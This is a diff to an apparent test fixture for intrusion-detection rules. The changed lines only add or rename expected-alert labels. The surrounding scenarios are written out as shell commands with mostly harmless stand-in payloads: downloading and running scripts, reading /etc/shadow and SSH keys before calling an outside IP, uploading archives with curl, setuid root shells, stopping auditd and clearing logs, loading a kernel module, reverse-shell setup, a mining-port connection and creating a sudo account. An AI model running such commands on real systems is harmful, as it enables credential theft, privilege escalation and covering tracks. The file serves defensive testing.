@@ -4,6 +4,7 @@
 #also Transfer tool given a bare address
 server 'curl -s http://203.0.113.9/'
 ## File written by a server, then run
+#also Program or script of a shared folder changed by a stranger
 #also Shell started by a network server
 #setup mkdir -p /srv/up
 server 'cp /bin/true /srv/up/x'; /srv/up/x
@@ -20,6 +21,7 @@ server 'id; uname -a; curl -s http://10.9.8.7/'
 echo x > /var/www/html/s.php; server true
 ## Downloaded script run
 #also Interpreter runs a script from a scratch folder
+#also Transfer tool given a bare private address and a scratch folder
 #setup web
 curl -s -o /tmp/i.sh http://10.9.8.7:8000/true; bash /tmp/i.sh
 ## Program in a scratch folder run, then removed
@@ -47,6 +49,7 @@ echo true > /tmp/x; /tmp/x; sh /tmp/x
 #also Set-user-id program raised privileges to root
 cp /bin/bash /var/tmp/b; chmod 4755 /var/tmp/b; setpriv --reuid 1000 --clear-groups /var/tmp/b -p -c true
 ## Raised to root, then a log emptied
+#also Log of a service emptied or removed by hand
 #also Set-user-id program raised privileges to root
 #also Shell with raised privileges
 #setup mkdir /opt/y; cp /bin/bash /opt/y/bash; chmod 4755 /opt/y/bash; mkdir -p /var/log/nginx
@@ -64,6 +67,7 @@ cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
 cat /etc/shadow; curl -s http://203.0.113.9/
 ## Archive made, then sent away
 #also Folders of people packed into a scratch folder
+#also Transfer tool given a bare private address and a scratch folder
 tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
 ## Guard stopped, then the kernel changed or a log emptied
 #also Log files cleared
@@ -75,7 +79,7 @@ systemctl stop auditd; sh -c ': > /var/log/auth.log'
 : > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
 ## Reverse shell given a terminal
 #also Command of a reverse shell
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Input and output tied to a connection with another machine
 #also Reverse shell
 #also Reverse shell by bash's own network
@@ -83,16 +87,18 @@ systemctl stop auditd; sh -c ': > /var/log/auth.log'
 #also Terminal made for a shell
 remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Downloaded program connects to a mining port
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Downloaded file executed
 #also Executable run from a scratch folder
 #also File in a scratch folder made executable by hand
 #also Program in a scratch folder connects out
 #also Program in a scratch folder made executable, then run
+#also Transfer tool given a bare private address and a scratch folder
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
 ## Ports tried, then a login
 #also Ports tried by code without a file
+#also SSH or a remote desktop spoken by a stranger
 #setup listener 22
 python3 -c '
 import socket
@@ -101,6 +107,8 @@ for port in list(range(30, 50)) + [22]:
 ## Shell in a container by exec, then a download
 #also Command run in a container by hand
 #also Container started by hand
+#also Containers or virtual machines listed by hand
+#also Log of a service emptied or removed by hand
 #setup image
 engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
 ## Process changed, then a connection of its own
@@ -124,6 +132,7 @@ except PermissionError: pass
 sets[0] |= 128; libc.capset(head, sets); os.setuid(0)'
 ## Logins guessed, then one that worked
 #also Login from the internet with a password
+#also Login that checks nobody's identity
 #also SSH password guessing
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
@@ -143,6 +152,7 @@ useradd -m -s /bin/bash eve; usermod -aG sudo eve; end_log
 ## Account made, then used
 #also Login account created
 #also Login from the internet with a password
+#also Login that checks nobody's identity
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
 useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; end_log
